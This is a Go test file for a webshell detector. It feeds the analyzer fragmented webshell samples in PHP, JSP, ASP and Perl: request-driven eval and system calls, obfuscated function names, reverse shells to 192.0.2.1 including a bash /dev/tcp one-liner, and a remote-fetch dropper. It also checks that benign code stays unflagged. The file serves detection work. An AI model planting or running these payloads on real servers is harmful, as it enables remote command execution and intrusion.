package webshell

import (
	"strings"
	"testing"

	"seawall/internal/intrusion/webshell/syntax"
)

// signs returns what the evaluation of a page says, without its words.
func signs(v Verdict) string {
	var out []string
	for _, p := range v.Parts {
		if !strings.Contains(p.What, "uses the words") {
			out = append(out, p.What)
		}
	}
	return strings.Join(out, "; ")
}

func TestEvaluationFollowsWhatHidesAFlow(t *testing.T) {
	a := NewAnalyzer(Options{})
	f := func(name, want string, parts ...string) {
		t.Helper()
		if got := signs(a.Analyze(name, join(parts...))); !strings.Contains(got, want) {
			t.Errorf("%s %q: %q, want %q in it", name, join(parts...), got, want)
		}
	}
	const code, command, hidden = "runs code that comes from the request", "runs a command that comes from the request", "calls a dangerous function whose name it puts together"
	// Both ways through a condition count.
	f("a.php", "files that the request names", "<?php if($_GE", "T['f']){$f=$_GE", "T['f'];}else{$f='/';} if($h=opendir($f)){echo readdir($h);}")
	// Classes of the page, called or made.
	f("a.php", code, "<?php class C{public function __invoke($p){ev", "al($p.'');}} call_user_func(new C(),$_PO", "ST['x']);")
	f("a.php", code, "<?php class A{function __construct($p){}} class C{function __construct($p){ev", "al($p);}} new C($_PO", "ST['x']);")
	// What a page shows, handed to a function.
	f("a.php", code, "<?php ob_start(function($c){register_shutdown_function('ass", "ert',$c);}); echo $_REQ", "UEST['p'];")
	f("a.php", code, "<?php $e=''; ob_start(function($c){global $e;$e=$c;}); echo $_REQ", "UEST['p']; ass", "ert($e);")
	// Names put together by less common functions.
	f("a.php", hidden, "<?php $a=substr_replace('asxxx','sert',2); $a($_PO", "ST['x']);")
	f("a.php", hidden, "<?php $a=rtrim('ass", "ert hello',' hello'); $a($_PO", "ST['x']);")
	f("a.php", hidden, "<?php $a=join(array_diff(['s','a','ys','te','m'],['a'])); array_map($a,(array)$_REQ", "UEST['1']);")
	f("a.php", hidden, "<?php $a=md5('a'); $p=substr($a,14,1).chr(115).chr(115).substr($a,22,1).chr(114).chr(116); $p($_GE", "T['a']);")
	f("a.php", hidden, "<?php $s='btttfsu'; $s='bttfsu'; for($i=0;$i<6;$i++){$s[$i]=chr(ord($s[$i])-1);} $s($_GE", "T['a']);")
	f("a.php", "callback from the request", "<?php array_walk(array($_PO", "ST['p']=>'|.*|e'),$_REQ", "UEST['e'],'');")
	// The command begins with the request; a suffix changes nothing.
	f("a.php", command, "<?php sys", "tem($_GE", "T['c'].' 2>&1');")
	f("a.php", "text from the request in it", "<?php sys", "tem('ping '.$_GE", "T['c']);")
	// A known reverse shell, in pieces.
	f("a.php", "connects to another host", "<?php $s=fsockopen('192.0.2.1',1); proc_open('uname -a; w; /bi", "n/sh -i',$d,$p);")
	f("x.jsp", "connects to another host", "<% Runtime.getRun", "time().ex", "ec(\"bash -i >& /dev", "/tcp/192.0.2.1/9 0>&1\"); %>")
	// Fetched and stored under a name of which only the end is known.
	f("a.php", "fetches a page", "<?php $g=file_get_contents('https://example.net/a'); $h=fopen(getcwd().'/'.'up.php','w'); fwrite($h,$g);")
	// Unicode escapes and CDATA in Java.
	var escaped strings.Builder
	for _, c := range join("Runtime.getRun", "time().ex", "ec(request.getPara", "meter(\"i\"));") {
		escaped.WriteString("\\u00" + string("0123456789abcdef"[c>>4]) + string("0123456789abcdef"[c&15]))
	}
	f("x.jsp", command, "<%", escaped.String(), "%>")
	f("x.jspx", command, "<jsp:scriptlet><![CDATA[ Runtime.getRun", "time().ex", "ec(request.getPara", "meter(\"i\")); ]]></jsp:scriptlet>")
	// JScript of classic ASP, told by its tag.
	f("x.asp", code, "<SCRIPT RUNAT=SERVER LANGUAGE=JAVASCRIPT>var z = 'it'; ev", "al(String(Request.form('z')));</SCRIPT>")
	// Connections and databases of .NET.
	f("x.aspx", "connects to a host", "<%@ Page Language=\"C#\"%><% IPEndPoint e = new IPEndPoint(IPAddress.Parse(Request.QueryString.Get(\"t\")), 1); Socket s = new Socket(a, b, c); s.Connect(e); %>")
	f("x.aspx", "runs a query that comes from the request", "<%@ Page Language=\"C#\"%><% var c = new SqlConnection(); c.ConnectionString = Request.Form[\"c\"]; var q = new SqlCommand(Request.Form[\"q\"], c); %>")
	// Patterns of Perl and its hashes in texts.
	f("x.pl", command, "#!/usr/bin/perl\n$b = \"$ENV{'QUERY_STRING'}\";\nforeach $p (split(/&/, $b)) { ($n, $v) = split(/=/, $p); $q{$n} = $v; }\nopen(F, \"cd $q{dir}&&$q{cmd}|\");\n")
	// A stylesheet that runs commands.
	f("x.asp", "stylesheet", "<% set d=Server.CreateObject(\"MSXML2.DOMDocument\"): d.loadxml(\"<x xmlns='http://www.w3.org/1999/XSL/Transform'><msxsl:script>new ActiveXObject('wscript.sh", "ell')</msxsl:script></x>\") %>")
}

func TestHonestIdiomsStayQuiet(t *testing.T) {
	a := NewAnalyzer(Options{})
	f := func(name string, parts ...string) {
		t.Helper()
		if v := a.Analyze(name, join(parts...)); v.Shell {
			t.Errorf("%s %q: %+v", name, join(parts...), v.Parts)
		}
	}
	f("table.php", "<?php static $data = array('a' => 'b', '`' => '$', 'eval' => 'system', 'x' => '$_PO", "ST'); $result =& $data; unset($data); return $result;")
	f("run.php", "<?php require 'config.php'; ex", "ec($conf['rrdtool'] . ' --version', $out);")
	f("fallback.php", "<?php $x = $_GE", "T['x']; if (!in_array($x, $all)) { $x = 'default'; } include $x;")
	f("style.php", "<?php include __DIR__ . '/css/export.css';")
	f("job.sh", "#!/bin/sh\nfor d in `ls ${ROOT}`; do ev", "al \"x=$d\"; done\n")
	f("font.php", "<?php $cw = array(chr(0)=>278, chr(1)=>278, '!'=>278, '\"'=>355);")
}

// What a page's code does is told by its code alone.
func TestWordsOfCommentsAndConstantsAreNoAbilities(t *testing.T) {
	f := func(want role, page string) {
		t.Helper()
		if got := able(syntax.LexPHP(nil, page, false), syntax.PHP); got&(source|sink|effect|runs) != want {
			t.Errorf("%q: %b, want %b", page, got, want)
		}
	}
	f(0, "<?php // system($_PO"+"ST)\n$a = 'ev"+"al($x)'; $o->exec($a); function system($a) {}")
	f(source, "<?php $a = $_GE"+"T['x'];")
	f(source, "<?php $a = \"x $_GE"+"T[x]\";")
	f(sink|runs, "<?php sys"+"tem('ls');")
}
